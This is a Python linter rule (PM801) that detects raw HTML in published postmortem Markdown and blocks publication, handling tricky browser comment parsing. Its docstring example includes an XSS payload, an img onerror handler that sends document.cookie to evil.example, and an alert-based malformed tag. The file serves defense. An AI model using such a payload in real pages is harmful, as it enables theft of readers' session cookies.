"""Raw HTML outside the small allow-list.

## What it does
Finds HTML tags in the body and in frontmatter values. Allowed in the body: `<br>`, `<sup>`,
`<sub>`, `<kbd>`, `<details>` (optionally `<details open>`) and `<summary>`, without
attributes, and HTML comments. Everything else is reported: `<script>`, `<iframe>`, `<img>`,
`<div>`, event handlers such as `onclick=`, styles, and malformed tags such as
`<a/onclick=alert(1)>` that the linter's parser reads as text but the site's Markdown engine
(Python-Markdown) passes to the page as HTML. Comments are ended where a browser ends them:
`<!-->` and `<!--->` are whole comments, `--!>` ends one, and comments do not nest; so in
`<!--> <img src=x.png> -->` the image is live and reported, and so is a comment that ends
earlier than it looks or never closes. Text in code spans and code blocks is ignored,
and so is HTML written with entities (`&lt;b&gt;`). Frontmatter values may hold no tag at all.

## Why is this bad?
Postmortems arrive by pull request from many authors and are published for the whole company:
raw HTML is how a page runs script in every reader's browser. It also renders differently in
the linter and on the site, and deeply nested raw HTML crashes the site build. The site
sanitizes every page and refuses to publish a file that fails this rule.

## Example
```markdown
Checkout failed <img src=x onerror="fetch('//evil.example/?'+document.cookie)">.

<iframe src="https://dashboards.internal/checkout"></iframe>
```

## Use instead
```markdown
Checkout failed for 21% of orders (see the `CheckoutCompletionLow` dashboard).

Write markup as Markdown, put code and tags in code spans: `<iframe>`.
```
"""

from __future__ import annotations

from linter.rules._frontmatter_values import string_values
from linter.rules._html import TAG_LIKE, raw_tags, tag_problem
from linter.rules._inline import inline_children, literally_in_source, text_runs
from linter.rules.base import Violation, define
from linter.safe_text import safe_excerpt


def _message(problem: str, tag: str) -> str:
    return f"{problem} is not allowed: '{safe_excerpt(tag, 60)}'; write it as Markdown, or in a code span if it is an example"


def _block_tags(document):
    for token in document.tokens:
        if token.type != "html_block" or not token.map:
            continue
        for start, tag in raw_tags(token.content):
            problem = tag_problem(tag)
            if problem:
                yield token.map[0] + 1 + token.content.count("\n", 0, start), tag, problem


def _inline_tags(document):
    for child in inline_children(document):
        if child.token.type == "html_inline":
            content = child.token.content
            # One token to markdown-it can be a comment and live tags to a browser ('<!-- a --!> <b> -->')
            for start, tag in raw_tags(content) if content.startswith("<!--") else ((0, content),):
                problem = tag_problem(tag)
                if problem:
                    yield child.line + content.count("\n", 0, start), tag, problem
    for parent, line, text in text_runs(document):
        if "<" not in text:
            continue
        for match in TAG_LIKE.finditer(text):
            problem = tag_problem(match.group(0))
            if problem and literally_in_source(parent, match.group(0)):
                yield line + text.count("\n", 0, match.start()), match.group(0), problem


def _frontmatter_tags(document):
    for path, line, column, value in string_values(document.frontmatter):
        if "<" in value:
            match = TAG_LIKE.search(value)
            if match:
                shown = ".".join(str(part) for part in path)
                yield Violation(line, column, f"HTML in frontmatter value '{safe_excerpt(shown, 40)}' is not allowed: "
                                              f"'{safe_excerpt(match.group(0), 60)}'; frontmatter values are plain text")


def check(document, context):
    yield from _frontmatter_tags(document)
    if "<" not in document.body_text:
        return  # every tag this rule reports is written with a literal '<' in the body (most files have none)
    for line, tag, problem in sorted((*_block_tags(document), *_inline_tags(document)), key=lambda found: found[0]):
        yield Violation(line, document.column_of(line, tag), _message(problem, tag))


RULE = define(__doc__, "PM801", "raw-html", "error", check, suppressible=False, blocks_publication=True)
